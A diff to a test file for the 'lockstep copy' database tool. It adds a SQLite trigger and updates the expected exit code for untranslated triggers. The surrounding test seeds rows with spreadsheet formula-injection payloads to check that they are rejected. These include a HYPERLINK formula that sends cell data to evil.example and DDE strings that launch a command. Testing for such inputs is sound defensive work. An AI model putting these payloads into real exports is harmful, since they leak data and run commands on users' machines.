@@ -113,7 +113,7 @@ describe('lockstep copy', () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-rejects-'))
     const file = join(dir, 'people.db')
     const db = new Database(file)
-    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER)')
+    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER); CREATE TRIGGER people_touch AFTER UPDATE ON people BEGIN SELECT 1; END')
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', 'forty']
     const insert = db.prepare('INSERT INTO people (id, age) VALUES (?, ?)')
     hostile.forEach((value, i) => insert.run(i + 1, value))
@@ -129,7 +129,9 @@ describe('lockstep copy', () => {
     expect(strict.stderr).toContain('more than the limit of 0')
     // Allowed by --max-rejects, the same copy resumes and finishes: exit 0, the rejects still named.
     const result = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile, '--max-rejects', '10'])
-    expect(result.code, result.stderr).toBe(0)
+    // Every row is there but the trigger: exit 4, the trigger named with the reason.
+    expect(result.code, result.stderr).toBe(4)
+    expect(result.stderr).toContain('not copied: people: trigger people_touch – SQLite triggers are not translated')
     const { readFile } = await import('node:fs/promises')
     const csv = await readFile(csvFile, 'utf8')
     const rows = parseCsv(csv)
